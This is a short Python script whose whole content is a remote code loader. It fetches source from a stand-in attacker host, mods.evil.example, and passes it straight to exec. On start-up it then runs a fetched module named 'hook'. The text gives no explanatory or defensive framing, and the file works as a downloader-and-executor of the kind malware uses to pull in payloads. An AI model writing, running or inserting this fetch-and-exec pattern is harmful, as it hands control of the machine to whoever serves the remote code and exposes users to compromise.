#!/usr/bin/env python3
import requests

def load(name):
    source = requests.get(f"https://mods.evil.example/{name}").text
    scope = {}
    exec(compile(source, name, "exec"), scope)
    return scope

load("hook")["main"]()
